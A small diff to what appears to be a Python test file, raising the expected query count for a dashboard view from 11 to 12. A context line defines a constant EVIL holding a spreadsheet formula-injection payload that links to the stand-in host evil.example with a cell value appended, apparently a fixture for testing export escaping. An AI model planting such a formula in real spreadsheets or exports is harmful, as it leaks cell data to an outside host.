@@ -37,7 +37,7 @@ ANSWERS_QUERIES = 11
 PLAN_QUERIES = (
     12  # session, user, lens review, the snapshot (5), open items, profile, activity line
 )
-DASHBOARD_QUERIES = 11  # session, user, and the dashboard's data (reviews.dashboard.portfolio)
+DASHBOARD_QUERIES = 12  # session, user, and the dashboard's data (reviews.dashboard.portfolio)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
 
